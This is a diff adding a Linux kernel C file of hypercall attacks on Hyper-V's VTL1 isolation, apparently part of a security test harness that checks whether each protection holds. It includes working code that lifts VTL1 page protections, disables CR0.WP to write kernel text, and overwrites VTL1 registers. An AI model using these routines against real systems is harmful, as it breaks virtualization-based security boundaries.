@@ -1,0 +1,142 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/* Attacks by hypercalls: on VTL1's memory, its protections, and its registers. */
+#include <linux/irqflags.h>
+#include <linux/mm.h>
+#include <asm/mshyperv.h>
+#include <asm/processor-flags.h>
+#include <asm/special_insns.h>
+
+#include "attack.h"
+
+#define HVCALL_MODIFY_PROTECTION 0x000c
+#define MAP_ALL			 0xf /* HV_MAP_GPA_FLAGS: read, write, execute in kernel and user mode */
+
+bool attack_vtl1_owned(void)
+{
+	u64 status;
+
+	/* Bits 0 to 15: the VTLs that are enabled. */
+	attack_get_register(0, REGISTER_VSM_PARTITION_STATUS, &status);
+	return status & BIT(1);
+}
+
+void *attack_vtl_call_stub(void)
+{
+	u64 offsets;
+
+	attack_get_register(0, REGISTER_VSM_CODE_PAGE_OFFSETS, &offsets);
+	return hv_hypercall_pg + (offsets & 0xfff);
+}
+
+void *attack_vtl_return_stub(void)
+{
+	u64 offsets;
+
+	attack_get_register(0, REGISTER_VSM_CODE_PAGE_OFFSETS, &offsets);
+	return hv_hypercall_pg + (offsets >> 12 & 0xfff);
+}
+
+/* Without VTL1: into the same memory. */
+bool attack_output(struct attack_story *story)
+{
+	u64 result;
+
+	memset(attack_input, 0, PAGE_SIZE);
+	*(u64 *)attack_input = HV_PARTITION_ID_SELF;
+	*(u32 *)(attack_input + 8) = HV_VP_INDEX_SELF;
+	*(u32 *)(attack_input + 16) = REGISTER_VSM_VP_STATUS;
+	result = attack_hypercall(HVCALL_GET_VP_REGISTERS | ATTACK_REP(1),
+				  attack_region + (511ul << PAGE_SHIFT));
+	attack_tell(story, "the hypercall: %s", attack_status(result));
+	return hv_result_success(result) && result != ATTACK_GP;
+}
+
+static u64 unprotect(phys_addr_t at, u8 input_vtl)
+{
+	memset(attack_input, 0, PAGE_SIZE);
+	*(u64 *)attack_input = HV_PARTITION_ID_SELF;
+	*(u32 *)(attack_input + 8) = MAP_ALL;
+	attack_input[12] = input_vtl;
+	*(u64 *)(attack_input + 16) = at >> PAGE_SHIFT;
+	return attack_hypercall(HVCALL_MODIFY_PROTECTION | ATTACK_REP(1), 0);
+}
+
+/* At the address where the kernel has it, with the write protection of its page tables off. */
+static bool write_unprotected(u8 *at, bool *fault)
+{
+	const u8 old = READ_ONCE(*at);
+	bool through = false;
+	unsigned long flags, cr0;
+
+	local_irq_save(flags);
+	cr0 = read_cr0();
+	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
+	*fault = !attack_write(at, old ^ 1);
+	if (!*fault) {
+		through = READ_ONCE(*at) != old;
+		attack_write(at, old);
+	}
+	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
+	local_irq_restore(flags);
+	return through;
+}
+
+/*
+ * Asks the hypervisor to lift the protection of a locked page and of a page of VTL1, and of all pages at once; takes off
+ * that of the page tables; and writes. Without VTL1, page tables are all there is: then it is the write that succeeds.
+ */
+bool attack_protections(struct attack_story *story)
+{
+	const u64 page = unprotect(__pa_symbol(attack_text), ATTACK_VTL1);
+	const u64 secret = unprotect(attack_region, 0);
+	const u64 own = attack_set_register(0, REGISTER_VSM_PARTITION_CONFIG, 0);
+	const u64 upper = attack_set_register(ATTACK_VTL1, REGISTER_VSM_PARTITION_CONFIG, 0);
+	u8 value;
+	bool fault;
+	const bool through = write_unprotected((u8 *)attack_text, &fault);
+	const bool lifted =
+		attack_vtl1_owned() &&
+		(hv_result_success(page) || hv_result_success(secret) || hv_result_success(own) ||
+		 hv_result_success(upper) || attack_read(__va(attack_region), &value));
+
+	attack_tell(story, "hypercalls: %s, %s, %s, %s; CR0.WP off, %s", attack_status(page),
+		    attack_status(secret), attack_status(own), attack_status(upper),
+		    fault ? "#GP at the write" : "written");
+	return through || lifted;
+}
+
+static const u32 registers[] = {REGISTER_RIP, REGISTER_RSP, REGISTER_CR3, REGISTER_EFER};
+
+/* Without an owner of VTL1 the attacker's own code is in it, and says what its registers hold. */
+bool attack_get_registers(struct attack_story *story)
+{
+	const struct attack_spoils *spoils = attack_take_over();
+	u64 value, result = 0;
+	unsigned int got = 0;
+
+	for (size_t i = 0; i < ARRAY_SIZE(registers); i++) {
+		result = attack_get_register(ATTACK_VTL1, registers[i], &value);
+		got += hv_result_success(result);
+	}
+	attack_tell(story, "hypercalls: %s; %s", attack_status(result),
+		    spoils ? "own code in VTL1 tells CR3, RSP and EFER"
+			   : "no code of its own in VTL1");
+	return got || (spoils && spoils->cr3 && spoils->efer);
+}
+
+/* Without an owner it is the attacker who chose them all. */
+bool attack_set_registers(struct attack_story *story)
+{
+	const struct attack_spoils *spoils = attack_take_over();
+	u64 result = 0;
+	unsigned int set = 0;
+
+	for (size_t i = 0; i < ARRAY_SIZE(registers); i++) {
+		result = attack_set_register(ATTACK_VTL1, registers[i], 0);
+		set += hv_result_success(result);
+	}
+	attack_tell(story, "hypercalls: %s; %s", attack_status(result),
+		    spoils ? "VTL1 runs with the RSP that it was given"
+			   : "no context of its own in VTL1");
+	return set || (spoils && spoils->rsp == attack_own_rsp());
+}
